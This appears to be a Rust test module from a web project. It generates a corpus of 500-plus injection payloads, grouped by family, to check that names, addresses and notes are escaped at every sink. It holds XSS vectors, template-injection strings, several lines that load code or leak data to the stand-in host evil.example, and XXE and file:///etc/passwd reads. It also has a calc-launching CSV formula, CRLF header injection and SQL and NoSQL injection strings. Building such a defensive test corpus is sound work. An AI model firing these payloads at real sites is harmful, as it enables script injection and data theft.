//! Texts that have run as commands somewhere, by families: what an attacker writes into a name, an
//! address or a note. The bar of A21 is 500 of them on every sink.
//!
//! `web/e2e/payloads.json` holds the same for the journeys in a real browser, and
//! `crates/paper` prints them from there; a test holds the file to what stands here.

use std::collections::BTreeSet;

const EVENTS: [&str; 12] = [
    "onload",
    "onerror",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onbeforeinput",
    "onscrollend",
    "onbegin",
    "onwheel",
    "oncut",
];

/// Every family with its texts.
pub(crate) fn families() -> Vec<(&'static str, Vec<String>)> {
    let all = vec![
        ("handlers", handlers()),
        ("tags", own(TAGS)),
        ("attributes", attributes()),
        ("addresses", addresses()),
        ("encodings", encodings()),
        ("svg and mathml", own(SVG)),
        ("templates", own(TEMPLATES)),
        ("styles", own(STYLES)),
        ("full width", look_alikes()),
        ("direction and width", unseen()),
        ("scripts and data", own(DATA)),
    ];
    let mut seen = BTreeSet::new();
    all.into_iter()
        .map(|(name, texts)| {
            (name, texts.into_iter().filter(|text| seen.insert(text.clone())).collect())
        })
        .collect()
}

/// All of them.
pub(crate) fn payloads() -> Vec<String> {
    families().into_iter().flat_map(|(_, texts)| texts).collect()
}

fn own(texts: &[&str]) -> Vec<String> {
    texts.iter().map(|text| (*text).to_owned()).collect()
}

fn handlers() -> Vec<String> {
    let tags = [
        "img src=x",
        "svg",
        "body",
        "video src=x",
        "audio src=x",
        "input autofocus",
        "details open",
        "select autofocus",
        "iframe src=x",
        "marquee",
        "object data=x",
        "form",
        "button",
        "a href=x",
        "x tabindex=1 id=x",
    ];
    let each = |tag: &str| EVENTS.map(|event| format!("<{tag} {event}=alert(1)>"));
    tags.into_iter().flat_map(each).collect()
}

fn attributes() -> Vec<String> {
    let out = ["\"", "'", "`", "\">", "'>", "\"'>", "--!>", "]]>"];
    let on =
        |event: &&str| [format!(" {event}=alert(1) "), format!(" autofocus {event}=\"alert(1)")];
    out.into_iter()
        .flat_map(|out| EVENTS[..4].iter().flat_map(on).map(move |on| format!("{out}{on}")))
        .collect()
}

fn addresses() -> Vec<String> {
    let schemes = [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        " javascript:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "//evil.example/x.js",
    ];
    let places = [
        "<a href=\"{}\">点</a>",
        "<iframe src=\"{}\"></iframe>",
        "<form action=\"{}\"><button>点</button></form>",
        "<meta http-equiv=refresh content=\"0;url={}\">",
        "<base href=\"{}\">",
        "<object data=\"{}\"></object>",
        "<embed src=\"{}\">",
        "<link rel=stylesheet href=\"{}\">",
        "[点]({})",
    ];
    let each = |scheme: &str| places.map(|place| place.replace("{}", scheme));
    schemes.into_iter().flat_map(each).collect()
}

fn encodings() -> Vec<String> {
    let bases = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg onload=alert(1)>",
        "<iframe srcdoc=x onload=alert(1)>",
    ];
    let each = |text: &str| {
        let by = |sign: &dyn Fn(char) -> String| text.chars().map(sign).collect::<String>();
        [
            by(&|sign| format!("&#{};", u32::from(sign))),
            by(&|sign| format!("&#x{:x};", u32::from(sign))),
            by(&|sign| format!("&#{:07}", u32::from(sign))),
            by(&|sign| format!("%{:02X}", u32::from(sign))),
            by(&|sign| format!("%25{:02x}", u32::from(sign))),
            by(&|sign| format!("\\u{:04x}", u32::from(sign))),
            by(&|sign| format!("\\x{:02x}", u32::from(sign))),
            text.replace('<', "&lt;").replace('>', "&gt;"),
            text.replace('<', "&amp;lt;").replace('>', "&amp;gt;"),
            text.replace('<', "+ADw-").replace('>', "+AD4-"),
            text.replace('<', "\\3c ").replace('>', "\\3e "),
            text.to_uppercase(),
        ]
    };
    bases.into_iter().flat_map(each).collect()
}

/// Signs that a careless folding turns into those of markup.
fn look_alikes() -> Vec<String> {
    let bases = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg onload=alert(1)>",
        "'><details open ontoggle=alert(1)>",
        "{{alert(1)}}",
        "#eval(\"1\")",
    ];
    let wide = |sign: char| match sign {
        '!'..='~' => char::from_u32(u32::from(sign) + 0xfee0).unwrap_or(sign),
        ' ' => '\u{3000}',
        other => other,
    };
    let each = |text: &str| {
        [
            text.chars().map(wide).collect::<String>(),
            text.chars().map(|sign| if sign.is_alphabetic() { sign } else { wide(sign) }).collect(),
            text.replace('<', "﹤").replace('>', "﹥"),
            text.replace('<', "‹").replace('>', "›"),
            text.replace('<', "〈").replace('>', "〉"),
            text.replace('<', "《").replace('>', "》"),
            format!("太原市小店区{text}5号楼"),
            format!("誠縗功{text}"),
        ]
    };
    bases.into_iter().flat_map(each).collect()
}

/// Signs that take no room or turn the writing around, put where they split a word.
fn unseen() -> Vec<String> {
    let signs = [
        '\u{202e}', '\u{202d}', '\u{2066}', '\u{2067}', '\u{2069}', '\u{200b}', '\u{200d}',
        '\u{200f}', '\u{feff}', '\u{ad}', '\u{2028}', '\u{2060}',
    ];
    let each = |sign: char| {
        [
            format!("<scr{sign}ipt>alert(1)</scr{sign}ipt>"),
            format!("{sign}<img src=x onerror=alert(1)>"),
            format!("5号楼{sign}>)1(trela=daolno gvs<"),
        ]
    };
    signs.into_iter().flat_map(each).collect()
}

const TAGS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>alert(1)</script>",
    "<script>alert(1)",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<template><script>alert(1)</script></template>",
    "<b id=1>",
    "<plaintext>",
    "<xmp><script>alert(1)</script>",
    "<!--<img src=\"--><b id=3>",
    "<!--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<frameset onload=alert(1)>",
    "<table background=javascript:alert(1)>",
    "<slot name=x><b slot=x>",
    "<dialog open><button autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<portal src=javascript:alert(1)>",
    "<button popovertarget=x>点</button><i id=x popover onbeforetoggle=alert(1)>",
    "<a ping=//evil.example href=/>点</a>",
    "<img srcset=x onerror=alert(1)>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>点",
    "<",
    "<<",
    ">",
    "&",
    "&lt",
    "&amp;",
    "<x",
    "</",
];

const SVG: &[&str] = &[
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1)></script>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=9>点</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributeName=x>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x\"></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><image href=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg><title><script>alert(1)</script></title></svg>",
    "<svg><handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\">alert(1)</handler>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>点</a>",
    "<math href=\"javascript:alert(1)\">点</math>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=alert(1)>\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
];

const TEMPLATES: &[&str] = &[
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{_openBlock.constructor('alert(1)')()}}",
    "{{7*7}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "{% alert(1) %}",
    "[[${alert(1)}]]",
    "@{alert(1)}",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\">",
    "<x :onclick=\"alert(1)\">",
    "<x v-on:click=\"alert(1)\">",
    "<x @mouseover=\"alert(1)\">",
    "<component :is=\"'script'\">alert(1)</component>",
    "<slot v-bind=\"{onclick:'alert(1)'}\">",
    "%s%s%n",
    "{0}",
    "%{7*7}",
    "$(id)",
    "`id`",
    "; id",
    "| id",
    "#eval(\"1+1\")",
    "#panic(\"stop\")",
    "#read(\"/etc/passwd\")",
    "#json(\"/paper.json\")",
    "#include \"/etc/passwd\"",
    "#import \"@preview/x:1.0.0\"",
    "#image(\"/etc/passwd\")",
    "#let text = []",
    "#set page(width: 0pt)",
    "#show: it => []",
    "#while true {}",
    "$ integral_0^1 $",
    "*粗* _斜_ `码`",
    "@ref <label>",
    "= 标题",
    "// 注",
    "/* 注 */",
    "\\#\\$\\*",
    "#{ ] [ \"",
    "#link(\"javascript:alert(1)\")[点]",
    "\\input{/etc/passwd}",
    "\\write18{id}",
    "{\\rtf1 x}",
    "%!PS",
    "%PDF-1.7 /JavaScript (app.alert(1))",
];

const STYLES: &[&str] = &[
    "<style>*{background:url(//evil.example)}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{display:none}</style>",
    "<p style=\"position:fixed;inset:0;background:red\">",
    "<p style=\"background:url(javascript:alert(1))\">",
    "<p style=\"width:expression(alert(1))\">",
    "<p style=\"-moz-binding:url(//evil.example/x.xml#x)\">",
    "<p style=\"behavior:url(x.htc)\">",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "</style><img src=x onerror=alert(1)>",
    "red;background:url(//evil.example)",
    "\";}*{color:red}",
    "</style><b id=2>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<p class=\"x\" style=\"animation:x\" onanimationstart=alert(1)>",
    "expression(alert(1))",
    "url(javascript:alert(1))",
];

const DATA: &[&str] = &[
    "\"};alert(1)//",
    "';alert(1)//",
    "\\\";alert(1)//",
    "</script><svg onload=alert(1)>",
    "-alert(1)-",
    "\"-alert(1)-\"",
    "\u{2028}alert(1)//",
    "\\u003cscript\\u003ealert(1)",
    "__proto__",
    "constructor",
    "{\"$ne\":null}",
    "{\"__proto__\":{\"x\":1}}",
    "data: x\n\ndata: y",
    "a\r\nSet-Cookie: fangxian=x",
    "a\r\n\r\n<script>alert(1)</script>",
    "=cmd|' /C calc'!A1",
    "=HYPERLINK(\"//evil.example\",\"点\")",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "' or '1'='1",
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "file:///etc/passwd",
    "\u{1b}[31m红\u{1b}[0m",
];

#[test]
fn the_corpus_has_five_hundred_texts_of_eleven_families() {
    let families = families();
    let n: usize = families.iter().map(|(_, texts)| texts.len()).sum();
    assert!(n >= 500, "{n}");
    for (name, texts) in &families {
        assert!(texts.len() >= 18, "{name}: {}", texts.len());
    }
    let kept: Vec<String> = serde_json::from_str(include_str!("../../../../web/e2e/payloads.json"))
        .expect("a list of texts");
    // FANGXIAN_WRITE_CORPUS=1 writes the file anew.
    if std::env::var_os("FANGXIAN_WRITE_CORPUS").is_some() {
        let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../web/e2e/payloads.json");
        let text = serde_json::to_string_pretty(&payloads()).unwrap();
        std::fs::write(path, text + "\n").unwrap();
    } else {
        assert_eq!(kept, payloads());
    }
}
